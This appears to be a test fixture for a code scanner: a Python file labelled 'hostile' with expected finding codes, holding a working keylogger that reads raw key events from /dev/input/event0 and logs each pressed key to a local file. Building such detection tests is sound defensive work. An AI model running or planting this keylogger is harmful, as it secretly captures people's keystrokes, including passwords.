# label: hostile
# expect: V101 V901
# note: Reads key events straight from the input device.
import struct

FMT = "llHHI"
SIZE = struct.calcsize(FMT)
with open("/dev/input/event0", "rb") as dev, open("keys.bin", "ab") as log:
    while True:
        _, _, kind, code, value = struct.unpack(FMT, dev.read(SIZE))
        if kind == 1 and value == 1:
            log.write(bytes([code & 255]))
